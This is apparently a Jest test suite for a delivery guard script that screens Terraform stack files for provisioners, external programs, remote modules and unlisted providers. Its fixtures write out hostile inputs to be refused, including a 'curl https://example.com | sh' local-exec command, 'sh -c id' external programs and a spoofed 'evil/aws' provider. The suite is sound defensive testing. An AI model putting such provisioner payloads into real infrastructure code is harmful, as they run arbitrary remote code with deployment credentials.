import { spawnSync } from 'node:child_process';
import {
  copyFileSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { environments } from '../../envs';
import { LOCK_FILE } from '../../stacks/synth-output';
import { shippedSynthDir } from '../stacks/app-fixture';

/**
 * scripts/delivery/guard.sh, which plan.sh and apply.sh run before Terraform does anything in a
 * stack directory: the jobs hold a delivery role's token, and Terraform runs whatever the stack
 * says with it. It must pass every stack the app synthesizes, and refuse, naming each, the things
 * that would run or fetch code beyond the reviewed AWS provider.
 */

const repositoryRoot = join(__dirname, '..', '..');
const GUARD = join(repositoryRoot, 'scripts/delivery/guard.sh');
const LOCK = join(repositoryRoot, LOCK_FILE);
const synthDir = shippedSynthDir();
const stacksDir = join(synthDir, 'stacks');

/** Runs the guard with bash, as plan.sh and apply.sh do. */
function guard(...args: string[]): { code: number; stdout: string; stderr: string } {
  const result = spawnSync('bash', [GUARD, ...args], { encoding: 'utf8' });
  if (result.error) throw result.error;
  return { code: result.status ?? -1, stdout: result.stdout, stderr: result.stderr };
}

type StackDocument = Record<string, any>;
/** A shipped stack with S3 state, providers and resources (an environment's), to break. */
const shipped = (): StackDocument =>
  JSON.parse(readFileSync(join(stacksDir, environments[0].name, 'cdk.tf.json'), 'utf8')) as StackDocument;

const work = mkdtempSync(join(tmpdir(), 'delivery-guard-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));
let count = 0;
/** A stack directory as the synth writes it (cdk.tf.json and the repository's lock file), plus `extra` files. */
function stackDirectory(stack: StackDocument, extra: Record<string, string> = {}): string {
  const dir = join(work, `stack-${++count}`);
  mkdirSync(dir);
  writeFileSync(join(dir, 'cdk.tf.json'), JSON.stringify(stack, null, 2));
  copyFileSync(LOCK, join(dir, LOCK_FILE));
  for (const [name, text] of Object.entries(extra)) writeFileSync(join(dir, name), text);
  return dir;
}
/** The problems the guard listed, one per line. */
const problems = (stderr: string) =>
  stderr
    .split('\n')
    .filter((l) => l.startsWith('  - '))
    .map((l) => l.slice(4));

describe('delivery guard', () => {
  const stacks = readdirSync(stacksDir);

  test.each(stacks)('passes the synthesized stack %s, with the repository’s lock file', (stack) => {
    // WHEN
    const { code, stdout, stderr } = guard(join(stacksDir, stack), LOCK);
    // THEN
    expect([code, stderr]).toEqual([0, '']);
    expect(stdout).toMatch(/^guard: cdk\.tf\.json run no provisioner/);
  });

  test('reads the lock file the synth copies into the stack directory by default, and refuses a stack without one', () => {
    // GIVEN a shipped stack as the synth writes it, with the lock file beside it
    const dir = stackDirectory(shipped());
    // THEN
    expect(guard(dir).code).toBe(0);
    // AND without it, no provider is locked
    rmSync(join(dir, LOCK_FILE));
    const { code, stderr } = guard(dir);
    expect(code).toBe(1);
    expect(problems(stderr)).toEqual([`no lock file at ${join(dir, LOCK_FILE)}`]);
  });

  test('fails when the directory holds no *.tf.json', () => {
    const dir = join(work, 'empty');
    mkdirSync(dir);
    const { code, stderr } = guard(dir, LOCK);
    expect(code).toBe(1);
    expect(stderr).toContain(`refused: no *.tf.json in ${dir}`);
  });

  const firstResource = (stack: StackDocument) => {
    const [type, byName] = Object.entries(stack.resource as Record<string, Record<string, unknown>>)[0];
    return { type, name: Object.keys(byName)[0] };
  };

  test.each<[string, (stack: StackDocument) => Record<string, string> | void, RegExp | string]>([
    [
      'a provisioner (local-exec runs any command)',
      (stack) => {
        stack.resource.terraform_data = { run: { provisioner: [{ 'local-exec': { command: 'id' } }] } };
      },
      'a provisioner runs a command: resource.terraform_data.run.provisioner',
    ],
    [
      'a provisioner in an existing resource',
      (stack) => {
        const { type, name } = firstResource(stack);
        stack.resource[type][name].provisioner = [{ 'remote-exec': { inline: ['id'] } }];
      },
      /^a provisioner runs a command: resource\.[\w-]+\.[\w-]+\.provisioner$/,
    ],
    [
      'an external data source (runs a program)',
      (stack) => {
        stack.data.external = { program: { program: ['sh', '-c', 'id'] } };
      },
      'data source "external" runs a program or reads a URL',
    ],
    [
      'an http data source (reads a URL)',
      (stack) => {
        stack.data.http = { page: { url: 'https://example.com/x' } };
      },
      'data source "http" runs a program or reads a URL',
    ],
    [
      'a module from git',
      (stack) => {
        stack.module = { remote: { source: 'git::https://example.com/modules.git//vpc?ref=v1' } };
      },
      'module remote is refused: the stacks use none, and its files are not read here',
    ],
    [
      'a module from the registry',
      (stack) => {
        stack.module = { vpc: { source: 'terraform-aws-modules/vpc/aws', version: '5.0.0' } };
      },
      'module vpc is refused: the stacks use none, and its files are not read here',
    ],
    [
      // A local module's own files (with a provisioner, say) are not read: none is allowed.
      'a module from a directory of the stack',
      (stack) => {
        stack.module = { local: { source: './m' } };
      },
      'module local is refused: the stacks use none, and its files are not read here',
    ],
    [
      'remote state read over http (a URL)',
      (stack) => {
        stack.data.terraform_remote_state = {
          leak: { backend: 'http', config: { address: 'http://127.0.0.1:9/leak' } },
        };
      },
      'remote state leak is read from "http", not s3',
    ],
    [
      'data sources written as a list of blocks',
      (stack) => {
        (stack as Record<string, unknown>).data = [
          stack.data,
          { external: { program: { program: ['id'] } } },
        ];
      },
      'data source "external" runs a program or reads a URL',
    ],
    [
      'a required provider written as a plain version string, absent from the lock file',
      (stack) => {
        (stack.terraform.required_providers as Record<string, unknown>).null = '>= 3.0';
      },
      /^provider registry\.terraform\.io\/hashicorp\/null is not in /,
    ],
    [
      'a backend other than s3 or local',
      (stack) => {
        stack.terraform.backend = { http: { address: 'https://example.com/state' } };
      },
      'backend "http" is neither s3 nor local',
    ],
    [
      'a provider configured but not required',
      (stack) => {
        stack.provider.null = [{}];
      },
      'provider "null" is configured but not among required_providers',
    ],
    [
      'a required provider absent from the lock file',
      (stack) => {
        stack.terraform.required_providers.null = { source: 'hashicorp/null', version: '3.2.4' };
      },
      /^provider registry\.terraform\.io\/hashicorp\/null is not in .*\.terraform\.lock\.hcl$/,
    ],
    [
      'a required provider of another namespace absent from the lock file',
      (stack) => {
        stack.terraform.required_providers.aws = { source: 'evil/aws', version: '5.100.0' };
      },
      /^provider registry\.terraform\.io\/evil\/aws is not in /,
    ],
    [
      'an extra *.tf file (HCL, which the guard cannot read)',
      () => ({
        'extra.tf': 'resource "terraform_data" "x" {\n  provisioner "local-exec" { command = "id" }\n}\n',
      }),
      'extra.tf is HCL, which this check cannot read',
    ],
  ])('fails on %s: exits 1, naming the problem on a line of its own', (_what, breakIt, expected) => {
    // GIVEN a shipped stack (which passes: see above), broken
    const stack = shipped();
    const extra = breakIt(stack) ?? {};
    // WHEN
    const { code, stdout, stderr } = guard(stackDirectory(stack, extra));
    // THEN
    expect(code).toBe(1);
    expect(stdout).toBe('');
    expect(stderr).toMatch(/^refused: the stack in /);
    expect(problems(stderr)).toEqual([
      typeof expected === 'string' ? expected : expect.stringMatching(expected),
    ]);
  });

  test('lists every problem of a stack at once', () => {
    // GIVEN a stack with a provisioner, an external program and a foreign backend
    const stack = shipped();
    stack.resource.terraform_data = { run: { provisioner: [{ 'local-exec': { command: 'id' } }] } };
    stack.data.external = { program: { program: ['id'] } };
    stack.terraform.backend = { remote: { organization: 'acme' } };
    // WHEN
    const { code, stderr } = guard(stackDirectory(stack));
    // THEN
    expect(code).toBe(1);
    expect(problems(stderr)).toHaveLength(3);
  });

  test('merges every *.tf.json as Terraform does: an override file beside cdk.tf.json that adds a provisioner is refused', () => {
    // GIVEN a shipped stack, unchanged, and an override file adding a provisioner to one of its resources
    const stack = shipped();
    const { type, name } = firstResource(stack);
    const override = {
      resource: {
        [type]: { [name]: { provisioner: [{ 'local-exec': { command: 'curl https://example.com | sh' } }] } },
      },
    };
    const dir = stackDirectory(stack, { 'cdk_override.tf.json': JSON.stringify(override) });
    // WHEN
    const { code, stderr } = guard(dir);
    // THEN
    expect(code).toBe(1);
    expect(problems(stderr)).toEqual([`a provisioner runs a command: resource.${type}.${name}.provisioner`]);
    // AND the same for a data source or a backend that only another file declares
    const more = stackDirectory(shipped(), {
      'more.tf.json': JSON.stringify({ data: { http: { x: { url: 'https://example.com' } } } }),
      'z_override.tf.json': JSON.stringify({
        terraform: { backend: { http: { address: 'https://example.com' } } },
      }),
    });
    expect(problems(guard(more).stderr).sort()).toEqual([
      'backend "http" is neither s3 nor local',
      'data source "http" runs a program or reads a URL',
    ]);
  });
});
